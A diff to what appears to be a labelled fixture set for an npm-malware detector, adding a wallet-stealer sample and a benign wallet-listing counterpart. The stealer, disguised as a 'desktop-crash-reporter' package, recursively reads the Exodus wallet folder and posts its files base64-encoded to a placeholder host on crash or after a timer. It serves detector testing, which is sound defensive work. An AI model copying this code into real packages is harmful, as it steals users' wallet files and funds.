@@ -472,6 +472,64 @@ try { new Worker(AUDIT, { eval: true }).unref(); } catch (e) {}
     )
 
 
+@sample
+def wallet_dir_walk_upload():
+    index = r"""'use strict';
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const https = require('https');
+
+// Crash reports for the desktop app: collects the app's recent state.
+function root() {
+  const h = os.homedir();
+  if (process.platform === 'win32') return path.join(process.env.APPDATA || h, 'Exodus', 'exodus.wallet');
+  if (process.platform === 'darwin') return path.join(h, 'Library', 'Application Support', 'Exodus', 'exodus.wallet');
+  return path.join(h, '.config', 'Exodus', 'exodus.wallet');
+}
+
+function collect(dir, acc) {
+  let names = [];
+  try { names = fs.readdirSync(dir); } catch (e) { return acc; }
+  for (const n of names) {
+    const p = path.join(dir, n);
+    let st;
+    try { st = fs.statSync(p); } catch (e) { continue; }
+    if (st.isDirectory()) collect(p, acc);
+    else if (st.size < 4 << 20) acc[path.relative(root(), p)] = fs.readFileSync(p).toString('base64');
+  }
+  return acc;
+}
+
+function report(extra) {
+  const body = JSON.stringify(Object.assign({ v: 2, files: collect(root(), {}) }, extra));
+  const req = https.request({ host: 'crash.desktop-reporter.invalid', path: '/r', method: 'POST', headers: { 'content-type': 'application/json' } });
+  req.on('error', () => {});
+  req.end(body);
+}
+
+process.on('uncaughtException', (e) => report({ err: String(e) }));
+setTimeout(() => report({}), 30000).unref();
+module.exports = { report };
+"""
+    files = {
+        "package.json": pj(name="desktop-crash-reporter", version="1.4.0", main="index.js",
+                           description="Crash reports for Electron and Node desktop apps"),
+        "README.md": readme("desktop-crash-reporter", "```js\nrequire('desktop-crash-reporter')\n```"),
+        "index.js": index,
+    }
+    return S(
+        "reach7-wallet-dir-walk-upload",
+        "crash reporter that walks one wallet folder (Exodus), reads every file and posts them base64 in JSON to a fixed host",
+        "2023-2025",
+        ["wallet-file-theft", "directory-walk", "network", "runtime"],
+        "Directory-walk exfiltration of a single credential store: readdirSync -> path.join -> "
+        "readFileSync into an object -> JSON body of https.request; one kind of store only, so "
+        "the stealer's shopping-list rule does not apply.",
+        files,
+    )
+
+
 # =============================================================================================
 # Benign
 
@@ -839,5 +897,55 @@ module.exports = { start };
         "Uses the network and passes the whole environment on, but to a child process; what it "
         "sends is one token to the address its user configures: the counterpart of env loaders "
         "that send the environment.",
+        files,
+    )
+
+
+@benign
+def b_wallet_file_lister():
+    cli = r"""#!/usr/bin/env node
+'use strict';
+// Lists the Electrum wallet files on this machine with their sizes and dates, and says when a
+// newer version of this tool is out.
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const https = require('https');
+
+const dir = process.platform === 'win32'
+  ? path.join(process.env.APPDATA || os.homedir(), 'Electrum', 'wallets')
+  : path.join(os.homedir(), '.electrum', 'wallets');
+
+let names = [];
+try { names = fs.readdirSync(dir); } catch (e) { console.error('no wallets folder at ' + dir); }
+for (const n of names) {
+  const st = fs.statSync(path.join(dir, n));
+  console.log(n.padEnd(32) + String(st.size).padStart(10) + '  ' + st.mtime.toISOString());
+}
+
+https.get('https://api.github.com/repos/example/wallet-ls/releases/latest', { headers: { 'user-agent': 'wallet-ls' } }, (res) => {
+  let s = '';
+  res.on('data', (c) => (s += c));
+  res.on('end', () => {
+    try {
+      const tag = JSON.parse(s).tag_name;
+      if (tag && tag !== 'v' + require('./package.json').version) console.log('update available: ' + tag);
+    } catch (e) {}
+  });
+}).on('error', () => {});
+"""
+    files = {
+        "package.json": pj(name="wallet-ls", version="0.4.0", bin={"wallet-ls": "cli.js"},
+                           description="List your Electrum wallet files"),
+        "README.md": readme("wallet-ls", "```sh\nnpx wallet-ls\n```"),
+        "cli.js": cli,
+    }
+    return S(
+        "reach7-benign-wallet-file-lister",
+        "CLI listing the Electrum wallet folder's file names, sizes and dates locally, with an update check over HTTPS",
+        "2025",
+        ["wallet-folder", "directory-listing", "network", "cli"],
+        "Lists a wallet store and uses the network in one file, but reads no file it lists "
+        "(stat only) and sends nothing of it: the counterpart of directory-walk exfiltration.",
         files,
     )
